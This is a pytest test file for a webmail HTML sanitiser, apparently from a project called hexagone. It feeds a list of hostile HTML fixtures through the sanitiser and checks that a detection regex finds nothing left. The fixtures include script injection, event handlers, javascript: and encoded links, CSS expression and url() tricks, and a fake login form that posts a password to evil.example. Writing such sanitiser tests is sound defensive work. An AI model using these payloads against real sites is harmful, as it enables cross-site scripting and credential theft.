"""Hostile HTML meets the sanitiser: nothing that runs, fetches, submits or navigates
survives, and what an e-mail needs to look like itself does."""

from __future__ import annotations

import re

import httpx
import pytest

from hexagone.mail.web.body import sanitise_html, text_to_html
from tests.mail.factories import deliver, make_mail_user
from tests.mail.web.helpers import signed_in
from tests.mail.web.test_reading import html_message

CID = "/mail/messages/x/cid/"
HOSTILE = {
    "script": "<script>alert(1)</script><p>text</p>",
    "script in svg": "<svg><script>alert(1)</script><circle onload=alert(1)></circle></svg>",
    "event handler": '<img src="data:image/png;base64,AAAA" onerror="alert(1)"><p onclick="alert(2)">x</p>',
    "javascript link": '<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a>',
    "entity-encoded javascript": '<a href="&#106;avascript:alert(1)">c</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">d</a>',
    "data html link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">e</a>',
    "css expression": '<div style="width: expression(alert(1)); color: red">f</div>',
    "css url": '<div style="background-image: url(https://evil.example/x.png); color: blue">g</div>',
    "css escape": '<div style="background: u\\72l(https://evil.example/)">h</div>',
    "css behaviour": '<div style="behavior: url(evil.htc)">i</div>',
    "style element": "<style>body { background: url(https://evil.example/) }</style><p>j</p>",
    "form": '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object and embed": '<object data="evil.swf"></object><embed src="evil.swf">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/"><a href="/path">k</a>',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/s.css">',
    "remote background attribute": '<table background="https://evil.example/bg.gif"><tr><td>l</td></tr></table>',
    "srcset": '<img srcset="https://evil.example/a.png 2x" alt="m">',
    "position overlay": '<div style="position: fixed; top: 0; left: 0">n</div>',
    "link into this site": '<a href="/mail/settings/delegates">o</a><a href="//evil.example/">p</a>',
}
FORBIDDEN = re.compile(
    r"<script|<svg|<style|<form|<input|<button|<iframe|<object|<embed|<meta|<base|<link"
    r"|\son\w+=|javascript:|vbscript:|data:text|expression|url\(|behavior|srcset|background=|position|href=\"/",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_sanitiser_hostile_html_leaves_nothing_that_runs_or_fetches(html: str) -> None:
    cleaned, _remote, _inline = sanitise_html(html, cid_url=CID, allow_remote=False)
    assert not FORBIDDEN.search(cleaned), cleaned
    assert "evil.example" not in cleaned


def test_sanitiser_keeps_the_look_of_an_ordinary_newsletter() -> None:
    html = (
        '<table width="600" bgcolor="#ffffff"><tr><td align="center" style="font-family: Arial; color: #333333;'
        ' padding: 8px"><h1>Title</h1><p><b>Bold</b> and <a href="https://example.org/">a link</a></p>'
        '<img src="cid:logo@x" alt="Logo" width="100"></td></tr></table>'
    )
    cleaned, remote, inline = sanitise_html(html, cid_url=CID, allow_remote=False)
    assert 'width="600"' in cleaned and 'bgcolor="#ffffff"' in cleaned and 'align="center"' in cleaned
    assert "font-family:Arial" in cleaned.replace(" ", "") and "padding:8px" in cleaned.replace(" ", "")
    assert '<a href="https://example.org/" target="_blank" rel="noopener noreferrer">' in cleaned
    assert f'src="{CID}logo@x"' in cleaned and not remote and inline == {"logo@x"}


def test_sanitiser_remote_image_is_reported_and_dropped_unless_allowed() -> None:
    html = '<img src="http://tracker.example/p.gif" alt="pixel">'
    blocked, remote, _inline = sanitise_html(html, cid_url=CID, allow_remote=False)
    shown, _remote, _inline = sanitise_html(html, cid_url=CID, allow_remote=True)
    assert remote and "tracker" not in blocked and 'alt="pixel"' in blocked
    assert 'src="http://tracker.example/p.gif"' in shown


def test_plain_text_is_escaped_and_only_web_addresses_become_links() -> None:
    html = str(
        text_to_html('<img src=x onerror=alert(1)> javascript:alert(1) https://example.org/a"b (http://x.org/).')
    )
    assert "<img" not in html and "&lt;img" in html
    assert 'href="javascript' not in html
    assert '<a href="https://example.org/a" ' in html and '<a href="http://x.org/" ' in html


@pytest.mark.parametrize("name", ["script", "event handler", "javascript link", "form", "css expression"])
async def test_hostile_message_frame_served_clean(client: httpx.AsyncClient, name: str) -> None:
    user = await make_mail_user()
    message = await deliver(user, html_message(HOSTILE[name]))
    await signed_in(client, user)

    frame = await client.get(f"/mail/messages/{message.id}/frame")

    assert frame.status_code == 200
    body = frame.text.split("<body>", 1)[1]
    assert not FORBIDDEN.search(body), body
